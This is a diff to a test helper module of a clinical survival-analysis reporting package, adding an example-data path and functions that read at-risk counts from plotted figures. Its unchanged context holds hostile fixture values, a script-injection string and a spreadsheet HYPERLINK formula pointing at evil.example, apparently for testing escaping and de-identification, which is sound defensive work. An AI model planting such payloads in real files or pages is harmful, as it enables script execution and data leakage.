@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import functools
 from collections.abc import Callable
+from pathlib import Path
 
 import numpy as np
 import pandas as pd
@@ -18,6 +19,7 @@ from cart_outcomes.report import figures as F
 from cart_outcomes.stats import cumulative_incidence, hazard_ratio_logrank, logrank_test, simon_makuch
 from cart_outcomes.stats.km import kaplan_meier
 
+EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "cd7-tall"
 SCRIPT_ID = "<script>alert('id')</script>"
 FORMULA_ID = '=HYPERLINK("http://evil.example/?leak","click")'
 QUOTE_ID = "O'Brien \"Pat\" & co"
@@ -146,3 +148,19 @@ def clean_cohort() -> pd.DataFrame:
     """The same patients with study codes and plain labels (for the documentation screenshot)."""
     frame, _ = R_.deidentify(hostile_cohort(), drop=["note"])
     return frame.assign(hsct=frame["hsct"].map({SCRIPT_GROUP: "HSCT", "none": "No HSCT"}))
+
+
+def drawn_rows(risk_ax) -> dict[int, list[float]]:
+    """{row number: counts left to right}, read from the at-risk text artists of a table axes."""
+    rows: dict[int, list[tuple[float, float]]] = {}
+    for text in risk_ax.texts:
+        gid = text.get_gid() or ""
+        if gid.startswith("at-risk-"):
+            rows.setdefault(int(gid.split("-")[2]), []).append((text.get_position()[0], float(text.get_text())))
+    return {row: [n for _, n in sorted(cells)] for row, cells in rows.items()}
+
+
+def drawn_at_risk(fig, axis: int = 1) -> dict[str, list[float]]:
+    """The numbers at risk as drawn: {row label: counts left to right}."""
+    labels = [t.get_text() for t in fig.axes[axis].get_yticklabels()]
+    return {labels[row]: counts for row, counts in drawn_rows(fig.axes[axis]).items()}
